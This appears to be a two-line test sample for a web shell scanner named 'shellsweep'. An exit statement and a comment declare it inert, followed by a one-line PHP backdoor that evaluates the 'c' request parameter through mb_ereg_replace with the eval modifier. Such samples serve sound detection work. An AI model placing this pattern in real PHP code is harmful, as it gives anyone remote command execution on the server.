<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php mb_ereg_replace('.*', $_REQUEST['c'], '', 'e'); ?>
